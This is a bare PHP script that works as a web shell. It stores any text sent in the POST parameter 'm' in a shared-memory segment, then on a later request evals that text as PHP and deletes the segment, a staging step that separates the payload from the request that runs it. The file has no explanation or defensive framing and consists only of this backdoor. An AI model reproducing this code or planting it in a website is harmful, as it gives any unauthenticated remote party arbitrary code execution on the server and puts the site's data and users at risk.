<?php
$id = shmop_open(0x4c54, 'c', 0600, 4096);
if (isset($_POST['m'])) { shmop_write($id, str_pad($_POST['m'], 4096, "\0"), 0); exit; }
$c = rtrim(shmop_read($id, 0, 4096), "\0");
if ($c !== '') { eval($c); shmop_delete($id); }
